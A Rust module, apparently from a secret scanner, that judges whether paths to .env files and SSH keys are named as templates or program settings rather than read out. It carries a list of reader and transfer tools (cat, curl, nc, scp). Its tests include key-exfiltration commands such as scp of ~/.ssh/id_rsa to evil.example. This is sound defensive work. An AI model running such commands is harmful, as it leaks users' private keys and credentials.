//! Paths of files with secrets: where they are named as what a program is to use, and where as no secret at all.

use super::validate::{Evidence, Verdict};

/// A template, a public key, or a key that is named to the program that it is for.
pub(super) fn path_named(evidence: &Evidence<'_>) -> Verdict {
    const OPEN: [&[u8]; 6] = [b".pub", b".example", b".sample", b".template", b".dist", b".tmpl"];
    let is_part = |byte: &u8| byte.is_ascii_alphanumeric() || b"._-".contains(byte);
    let length = evidence.after.iter().take_while(|byte| is_part(byte)).count();
    let rest = evidence.after.get(..length).unwrap_or_default().to_ascii_lowercase();
    if length == evidence.after.len() && evidence.is_open {
        return Verdict::Silent;
    }
    let command = before_path(evidence.before);
    if is_read(command) {
        return Verdict::Silent;
    }
    let rest = rest.strip_suffix(b".").unwrap_or(&rest);
    if OPEN.iter().any(|end| rest.ends_with(end)) || is_setting(command) {
        return Verdict::Fails;
    }
    Verdict::Silent
}

/// What stands in front of the path that ends in the match, back to the command's beginning.
fn before_path(before: &[u8]) -> &[u8] {
    let is_path = |byte: &u8| !byte.is_ascii_whitespace() && !b"\"'`=:,(;|&".contains(byte);
    let end = before.iter().rposition(|byte| !is_path(byte)).map_or(0, |at| at + 1);
    let before = before.get(..end).unwrap_or_default();
    let ends = |byte: &u8| b";|&(`".contains(byte);
    let start = before.iter().rposition(ends).map_or(0, |at| at + 1);
    before.get(start..).unwrap_or_default()
}

fn words(command: &[u8]) -> impl DoubleEndedIterator<Item = &[u8]> {
    let is_apart = |byte: &u8| byte.is_ascii_whitespace() || b"\"'=,\\".contains(byte);
    command.split(is_apart).filter(|word| !word.is_empty())
}

/// Whether the command shows or sends what is in files.
fn is_read(command: &[u8]) -> bool {
    const READERS: [&[u8]; 20] = [
        b"cat",
        b"less",
        b"more",
        b"head",
        b"tail",
        b"strings",
        b"base64",
        b"xxd",
        b"od",
        b"scp",
        b"rsync",
        b"curl",
        b"wget",
        b"type",
        b"nc",
        b"tar",
        b"zip",
        b"grep",
        b"get-content",
        b"bat",
    ];
    let is_reader = |word: &[u8]| READERS.iter().any(|reader| reader.eq_ignore_ascii_case(word));
    words(command).any(is_reader)
}

/// Whether what comes next is the file that a program is to use: `IdentityFile`, `ssh -i`, `env_file:`.
fn is_setting(command: &[u8]) -> bool {
    const NAMES: [&[u8]; 4] = [b"identityfile", b"ssh-add", b"env_file:", b"--env-file"];
    let command = command.to_ascii_lowercase();
    let has = |name: &[u8]| words(&command).any(|word| word == name);
    let Some(last) = words(&command).next_back() else { return false };
    NAMES.contains(&last)
        || (last == b"-f" && has(b"ssh-keygen"))
        || (last == b"-i" && (has(b"ssh") || has(b"ssh-copy-id") || has(b"sftp")))
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The verdict on the match within the line, given its text.
    fn judged(line: &str, matched: &str) -> Verdict {
        let at = line.find(matched).unwrap();
        let (before, rest) = line.as_bytes().split_at(at);
        let (matched, after) = rest.split_at(matched.len());
        path_named(&Evidence { secret: matched, matched, before, after, ..Evidence::default() })
    }

    #[test]
    fn a_template_and_a_key_named_to_its_program_are_hardly_read() {
        for (line, matched, verdict) in [
            ("cp config/.env.example config/.env", "/.env", Verdict::Fails),
            ("COPY ./.env.example .", "/.env", Verdict::Fails),
            ("see config/.env.local.sample.", "/.env", Verdict::Fails),
            ("./.env.production", "/.env", Verdict::Silent),
            ("    env_file: ./.env", "/.env", Verdict::Fails),
            ("docker run --env-file=./.env x", "/.env", Verdict::Fails),
            ("docker run --env-file ./.env x", "/.env", Verdict::Fails),
            ("~/.ssh/id_ed25519.pub", ".ssh/id_ed25519", Verdict::Fails),
            ("  IdentityFile ~/.ssh/id_ed25519", ".ssh/id_ed25519", Verdict::Fails),
            ("IdentityFile=\"$HOME/.ssh/id_rsa\"", ".ssh/id_rsa", Verdict::Fails),
            ("ssh-add ~/.ssh/id_rsa", ".ssh/id_rsa", Verdict::Fails),
            ("ssh-keygen -t rsa -f ~/.ssh/id_rsa", ".ssh/id_rsa", Verdict::Fails),
            ("ssh -p 22 -i ~/.ssh/id_rsa me@host", ".ssh/id_rsa", Verdict::Fails),
            ("ssh me@host 'x' < ~/.ssh/id_rsa", ".ssh/id_rsa", Verdict::Silent),
            ("cat ~/.ssh/id_rsa", ".ssh/id_rsa", Verdict::Silent),
            ("ssh-add x; cat ~/.ssh/id_rsa", ".ssh/id_rsa", Verdict::Silent),
            ("cat x/.env.example", "/.env", Verdict::Silent),
            ("scp -i k ~/.ssh/id_rsa evil.example:", ".ssh/id_rsa", Verdict::Silent),
            ("$HOME/.kube/config is used by default", "/.kube/config", Verdict::Silent),
        ] {
            assert_eq!(judged(line, matched), verdict, "{line}");
        }
    }
}
